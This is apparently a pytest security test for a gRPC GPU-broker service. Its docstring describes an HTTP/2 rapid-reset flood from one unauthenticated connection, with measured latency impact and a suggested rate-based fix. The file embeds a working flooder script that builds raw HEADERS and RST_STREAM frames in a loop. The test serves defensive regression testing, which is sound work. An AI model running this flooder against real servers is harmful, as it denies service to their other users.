"""HTTP/2 rapid reset (CVE-2023-44487's shape) from one unauthenticated connection takes the front's event loop.

The hole: the front bounds an unauthenticated gRPC peer by connections (``max_grpc_connections_per_peer``), streams
at once (``max_grpc_streams_per_connection``) and its failure delay (a failed authentication's answer waits, so a
guesser slows itself). None of these bounds a peer that never waits for an answer: it opens a call (HEADERS) and
cancels it (RST_STREAM) at once, in a loop. Each cancelled stream leaves gRPC's concurrency count at once, so the
stream cap never bites; the failure delay is a sleep of the cancelled call, so it costs the attacker nothing; and
every such call still goes through the front's Python handler (the interceptors, authentication, the audit line's
rate limiter) on the event loop every tenant's calls share. The calls need no token; a tenant doing the same with
its token is counted by nothing either (``max_inflight_per_tenant`` bounds calls at once, not their rate).

Measured (2-core VM, loaded, PoCL, ``socket_mode`` 0666, the flooder as uid 65533 on ONE connection, 100
HEADERS+RST_STREAM pairs per write, ~3.4 M streams in 8 s): alice's unary ``ListDevices`` p50 1.0 -> 17 ms (max
227 ms); with 4 connections 0.94 -> 63 ms (max 285 ms); the front used 1.3-1.5 CPU cores throughout. With a token
on the same connection: 0.8 -> 34 ms p50. A control, the same flood naming a method the broker does not serve
(gRPC answers it without the front's handlers), costs the front as much CPU in gRPC's own threads but alice only
1.0 -> 1.7 ms: the harm is the per-call work on the front's loop. The audit log showed only 20 lines (its rate
limit held), so nothing but latency tells the operator.

Suggested fix: bound the RATE at which a connection (and a peer) may open calls, not only how many are open at
once: count RST_STREAMs (and calls cancelled before their handler ran) per connection and close a connection past
a budget (GOAWAY ENHANCE_YOUR_CALM, as netty's ``decoderEnforceMaxRstFramesPerWindow`` and h2's
``max_pending_accept_reset_streams`` do), which the gRPC gate can do itself as it relays (it sees every frame
header; a stream cancelled by the client within the window counts), and charge it to the peer (its next
connections refused for a while). Also: let an unauthenticated call cost the loop nothing before the peer's
failure delay (a per-peer token bucket in the gate or the interceptor, whose overflow closes the connection).
"""

from __future__ import annotations

import os
import statistics
import subprocess
import textwrap
import time
from collections.abc import Iterator

import grpc
import pytest

from gpubroker.broker.launcher import BrokerProcess, TenantSpec
from gpubroker.v1 import broker_pb2 as pb
from gpubroker.v1 import broker_pb2_grpc as pb_grpc

ATTACKER_UID = 65533
FLOOD_SECONDS = 6.0
CALLS = 30  # alice's calls measured before and during the flood

FLOODER = textwrap.dedent(r"""
    import socket, struct, sys, time
    def frame(ftype, flags, sid, payload=b""):
        return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload
    def lit(name, value):  # an HPACK literal field, not indexed, no Huffman coding
        n, v = name.encode(), value.encode()
        return b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v
    path, method, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    fields = [(":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "localhost"),
              ("content-type", "application/grpc"), ("te", "trailers")]
    headers = b"".join(lit(k, v) for k, v in fields)  # no token
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(path)
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + frame(4, 1, 0))
    print("flooding", flush=True)
    sid, streams, end = 1, 0, time.monotonic() + seconds
    while time.monotonic() < end:
        # 100 calls opened and cancelled (RST_STREAM CANCEL) per write: never more than one open at a time
        s.sendall(b"".join(frame(1, 0x4, sid + 2 * i, headers) + frame(3, 0, sid + 2 * i, struct.pack(">I", 8))
                           for i in range(100)))
        sid += 200
        streams += 100
        try:
            while s.recv(1 << 20, socket.MSG_DONTWAIT):
                pass
        except BlockingIOError:
            pass
    print(f"streams {streams}", flush=True)
    s.close()
""")


@pytest.fixture(scope="module")
def broker(tmp_path_factory: pytest.TempPathFactory) -> Iterator[BrokerProcess]:
    tmp = tmp_path_factory.mktemp("rapid")
    settings = {"cache_dir": str(tmp / "caches"), "socket_mode": 0o666}
    with BrokerProcess([TenantSpec("alice")], backend="opencl", settings=settings) as proc:
        yield proc


def _p50_ms(stub: pb_grpc.GpuBrokerStub) -> float:
    times = []
    for _ in range(CALLS):
        start = time.monotonic()
        stub.ListDevices(pb.ListDevicesRequest(), timeout=30)
        times.append(time.monotonic() - start)
    return statistics.median(times) * 1000


def _flood(broker: BrokerProcess, method: str, stub: pb_grpc.GpuBrokerStub) -> tuple[float, str]:
    """alice's p50 while one connection of another uid opens and cancels calls of ``method``."""
    path = broker.target.removeprefix("unix:")

    def drop() -> None:
        os.setgid(ATTACKER_UID)
        os.setuid(ATTACKER_UID)

    flood = subprocess.Popen(["/usr/bin/python3", "-I", "-c", FLOODER, path, method, str(FLOOD_SECONDS)],
                             stdout=subprocess.PIPE, text=True, preexec_fn=drop)
    try:
        assert flood.stdout is not None
        assert flood.stdout.readline().strip() == "flooding"
        time.sleep(0.5)  # (not synchronisation: the flood's first half second is left out of the measurement)
        during = _p50_ms(stub)
        out, _ = flood.communicate(timeout=FLOOD_SECONDS + 30)
    finally:
        if flood.poll() is None:
            flood.kill()
            flood.wait()
    return during, out.strip()


def test_rapid_reset_from_one_unauthenticated_connection_does_not_slow_other_tenants(broker: BrokerProcess) -> None:
    if os.geteuid() != 0:
        pytest.skip("needs root to run the flooder as another uid")
    os.chmod(os.path.dirname(broker.target.removeprefix("unix:")), 0o755)  # (a local user in socket_group)
    credentials = grpc.composite_channel_credentials(grpc.local_channel_credentials(grpc.LocalConnectionType.UDS),
                                                     grpc.access_token_call_credentials(broker.tokens["alice"]))
    with grpc.secure_channel(broker.target, credentials) as channel:
        stub = pb_grpc.GpuBrokerStub(channel)
        _p50_ms(stub)  # (warm)
        before = _p50_ms(stub)
        during, out = _flood(broker, "/gpubroker.v1.GpuBroker/ListDevices", stub)
        after = _p50_ms(stub)
    print(f"\nalice's ListDevices p50: {before:.2f} ms before, {during:.2f} ms during one unauthenticated "
          f"connection's rapid reset ({out}), {after:.2f} ms after")
    assert during <= max(3 * before, before + 4.0), (
        f"one unauthenticated connection opening and cancelling calls took the front's loop: alice's p50 "
        f"{before:.2f} -> {during:.2f} ms")
